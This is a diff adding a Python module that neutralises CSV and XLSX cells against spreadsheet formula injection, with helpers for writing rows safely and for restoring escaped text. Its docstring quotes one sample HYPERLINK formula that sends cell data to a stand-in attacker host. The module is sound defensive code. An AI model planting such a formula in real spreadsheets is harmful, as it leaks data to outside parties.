@@ -1,0 +1,121 @@
+"""Writing spreadsheet files that cannot run: every text is written as text.
+
+A spreadsheet program treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
+formula (and some also after a leading tab or carriage return), so a respondent who writes
+``=HYPERLINK("http://evil.example/?d="&A2,"See report")`` as free text would plant a live
+formula in the file an analyst opens ("CSV injection", OWASP). The rule here, by column
+type:
+
+* numbers (``int``, ``float``, ``Decimal``; not ``bool``) stay numbers;
+* in CSV a text is *neutralised*: when, after any leading apostrophes, it starts with one of
+  ``= + - @ <tab> <CR>``, one apostrophe ``'`` is put in front (``-5 %`` → ``'-5 %``,
+  ``'=x`` → ``''=x``); every other text is written unchanged;
+* in XLSX a text is written as a string cell (type ``s``), never as a formula, and is not
+  changed at all.
+
+:func:`restore` undoes :func:`neutralise` exactly (it removes the one apostrophe the rule
+adds, and only from texts the rule would have changed), so a CSV export imports unchanged.
+"""
+
+from __future__ import annotations
+
+import csv
+from collections.abc import Iterable, Iterator
+from decimal import Decimal
+from typing import Any
+
+#: Characters that make a spreadsheet program read a cell as a formula.
+FORMULA_STARTS = frozenset("=+-@\t\r")
+#: The character put in front of such a text in CSV (spreadsheets show it as a text prefix).
+NEUTRALISER = "'"
+
+
+def _is_number(value: Any) -> bool:
+    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)
+
+
+def needs_neutralising(text: str) -> bool:
+    """Whether ``text``, after any leading apostrophes, starts with a formula character."""
+    return text.lstrip(NEUTRALISER)[:1] in FORMULA_STARTS
+
+
+def neutralise(text: str) -> str:
+    """``text`` safe to put in a CSV cell: one apostrophe in front when :func:`needs_neutralising`."""
+    return NEUTRALISER + text if needs_neutralising(text) else text
+
+
+def restore(text: str) -> str:
+    """The inverse of :func:`neutralise`: ``restore(neutralise(t)) == t`` for every text ``t``.
+
+    Removes one leading apostrophe from a text that still needs neutralising after it is
+    removed; every other text (including ``'abc`` and ``'`` alone) is returned unchanged.
+    """
+    if text.startswith(NEUTRALISER) and needs_neutralising(text[1:]):
+        return text[1:]
+    return text
+
+
+def csv_value(value: Any) -> Any:
+    """One cell for :mod:`csv`: ``None`` → ``""``, numbers unchanged, anything else as neutralised text."""
+    if value is None:
+        return ""
+    if _is_number(value):
+        return value
+    return neutralise(str(value))
+
+
+def csv_row(row: Iterable[Any]) -> list[Any]:
+    """A row with every cell passed through :func:`csv_value`."""
+    return [csv_value(value) for value in row]
+
+
+class SafeCsvWriter:
+    """A :func:`csv.writer` that neutralises every text cell (same ``writerow``/``writerows``)."""
+
+    def __init__(self, stream: Any, **kwargs: Any) -> None:
+        self._writer = csv.writer(stream, **kwargs)
+
+    def writerow(self, row: Iterable[Any]) -> Any:
+        return self._writer.writerow(csv_row(row))
+
+    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
+        for row in rows:
+            self.writerow(row)
+
+
+class _Echo:
+    def write(self, value: str) -> str:
+        return value
+
+
+def csv_lines(rows: Iterable[Iterable[Any]]) -> Iterator[str]:
+    """Safe CSV text one line at a time, for a streaming response."""
+    writer = SafeCsvWriter(_Echo())
+    for row in rows:
+        yield writer.writerow(row)
+
+
+def xlsx_row(sheet: Any, row: Iterable[Any]) -> list[Any]:
+    """Cells for ``sheet.append`` (an openpyxl worksheet, normal or write-only mode).
+
+    Numbers, dates and ``None`` are passed as they are; every other value becomes a string
+    cell whose type is forced to ``s``, because openpyxl would otherwise store a text
+    starting with ``=`` as a formula.
+    """
+    from openpyxl.cell import WriteOnlyCell
+
+    cells: list[Any] = []
+    for value in row:
+        if value is None or _is_number(value) or hasattr(value, "isoformat"):
+            cells.append(value)
+            continue
+        cell = WriteOnlyCell(sheet, value=str(value))
+        cell.data_type = "s"
+        cells.append(cell)
+    return cells
+
+
+def append_xlsx_rows(sheet: Any, rows: Iterable[Iterable[Any]]) -> None:
+    """Append ``rows`` to an openpyxl ``sheet`` with :func:`xlsx_row`."""
+    for row in rows:
+        sheet.append(xlsx_row(sheet, row))
